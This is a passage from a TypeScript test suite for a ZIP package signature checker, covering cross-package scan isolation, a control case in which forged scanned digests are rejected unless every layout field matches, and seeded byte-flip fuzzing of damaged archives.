    ['deflated, data descriptor', { compress: true, streamed: true }],
    ['stored', { compress: false, streamed: false }],
  ])('a scan of package A does not change the check of package B, with the same layout but one file changed (%s)', async (_name, how) => {
    const base = signed([...appFiles(), { path: 'assets/data/blob.bin', data: noise(200 * KiB, 'A') }], keys);
    const filesA: ZipFileSpec[] = base.map((file) => ({ ...file, ...how }));
    const filesB: ZipFileSpec[] = filesA.map((file) => (file.path === 'assets/data/blob.bin' ? { ...file, data: noise(200 * KiB, 'B') } : file));
    const fileA = await bench.file(await yazlZip(filesA));
    const fileB = await bench.file(await yazlZip(filesB));
    const layoutA = await layoutOf(fileA);
    const layoutB = await layoutOf(fileB);
    const shape = (entry: ZipEntry) => ({ name: entry.name, localHeaderOffset: entry.localHeaderOffset, dataOffset: entry.dataOffset, method: entry.method, compressedSize: entry.compressedSize, size: entry.size });
    expect(layoutB.map(shape)).toEqual(layoutA.map(shape));
    expect(layoutB.filter((entry, i) => entry.crc32 !== layoutA[i]?.crc32).map((entry) => entry.name)).toEqual(['assets/data/blob.bin']);

    const scannedA = await scanFile(fileA, 4093);
    expect(await coverage(fileA, scannedA)).toMatchObject({ missed: [] });
    const { without, withScan } = await checkBoth(fileB, scannedA);
    // B's blob is not what was signed: its real digest must show, not A's.
    expect(without.findings.map((found) => found.code)).toEqual(['signature_digest_mismatch']);
    expect(withScan).toEqual(without);
  });

  it('(control) the check does take a scanned digest that matches the central directory', async () => {
    const files = signed([...appFiles(), { path: 'assets/data/blob.bin', data: noise(200 * KiB, 'control') }], keys);
    const file = await bench.file(await yazlZip(files.map((entry) => ({ ...entry, streamed: true }))));
    const scanned = await scanFile(file, 4093);
    const blob = (await layoutOf(file)).find((entry) => entry.name === 'assets/data/blob.bin');
    const original = scanned.get(blob?.localHeaderOffset ?? -1);
    if (blob === undefined || original === undefined) throw new Error('blob.bin was not scanned');
    const forged = new Map(scanned);
    forged.set(blob.localHeaderOffset, { ...original, digest: { ...original.digest, sha256: '0'.repeat(64) } });
    const result = await checkPackage(file, options({ scanned: forged }));
    expect(result.files.find((found) => found.path === 'assets/data/blob.bin')?.sha256).toBe('0'.repeat(64));
    // One field off and it is not used.
    forged.set(blob.localHeaderOffset, { ...original, dataOffset: original.dataOffset + 1, digest: { ...original.digest, sha256: '0'.repeat(64) } });
    const refused = await checkPackage(file, options({ scanned: forged }));
    expect(refused.files.find((found) => found.path === 'assets/data/blob.bin')?.sha256).toBe(original.digest.sha256);
  });
});

describe('damaged packages (seeded fuzzing)', () => {
  it.each([
    ['sizes in the local headers', false, 11],
    ['data descriptors', true, 23],
  ])('with %s: one to three damaged bytes never make the scanned check differ', async (_name, streamed, seed) => {
    const files: ZipFileSpec[] = signed(
      [
        ...appFiles(),
        { path: 'assets/data/random.bin', data: noise(100 * KiB, 'fuzz random') },
        { path: 'assets/data/text.txt', data: text(200 * KiB, 'repetitive') },
        { path: 'assets/data/zeros.bin', data: Buffer.alloc(5 * MiB) },
      ],
      keys,
    ).map((file) => ({ ...file, streamed, compress: streamed || !file.path.endsWith('.png') }));
    const honest = await yazlZip(files);
    const layout = await layoutOf(await bench.file(honest));
    const headers = layout.map((entry) => entry.localHeaderOffset);
    const random = prng(seed);
    const pick = (n: number) => Math.floor(random() * n);
    const chunkSizes = [7, 1000, 4093, WHOLE];
    let damagedScans = 0;
    for (let round = 0; round < 60; round++) {
      const bytes = Buffer.from(honest);
      const flips = 1 + pick(3);
      const changes: string[] = [];
      for (let i = 0; i < flips; i++) {
        // Half the damage in and just after local headers, where the scan reads most carefully.
        const position = random() < 0.5 ? (headers[pick(headers.length)] ?? 0) + pick(64) : pick(bytes.length);
        const value = random() < 0.5 ? (bytes[position] ?? 0) ^ (1 << pick(8)) : pick(256);
        bytes[position] = value;
        changes.push(`${position}=${value}`);
      }
      const file = await bench.file(bytes);
      const chunkSize = chunkSizes[pick(chunkSizes.length)] ?? WHOLE;
      const scanned = await scanBytes(bytes, chunkSize);
      if (scanned.size < layout.length) damagedScans += 1;
      const { without, withScan } = await checkBoth(file, scanned);
      expect(withScan, `round ${round}, chunks of ${chunkSize}, bytes ${changes.join(' ')}`).toEqual(without);
    }
    // The damage did reach the scan.
    expect(damagedScans).toBeGreaterThan(10);
  });
});
